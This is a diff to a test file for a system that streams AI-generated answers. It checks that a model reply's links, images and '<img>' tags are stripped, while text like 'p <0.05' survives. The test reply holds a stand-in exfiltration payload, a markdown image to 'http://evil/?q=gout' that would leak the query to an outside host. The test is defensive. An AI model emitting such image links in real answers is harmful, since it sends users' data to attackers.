@@ -242,10 +242,12 @@ describe("a generated answer", () => {
 
   test("links and images of the model do not get through", async () => {
     await using at = await setting();
-    const reply = "![x](http://evil/?q=gout)Gout is treated with [colchicine](http://evil) [1]. <img src=x>Done [1].";
+    const reply =
+      "![x](http://evil/?q=gout)Gout is treated with [colchicine](http://evil) [1]. <img src=x>Done [1](http://evil) with p <0.05 and x>3 [1].";
     const result = await streamed(at.collection, { question }, { chat: scripted(reply) });
     expect(result.answer).not.toMatch(/evil|!\[|<img/);
     expect(result.answer).toContain("Gout is treated with colchicine. [1]");
+    expect(result.answer).toContain("with p <0.05 and x>3.");
   });
 
   test("a failure of the model is thrown, and an endless reply is one", async () => {
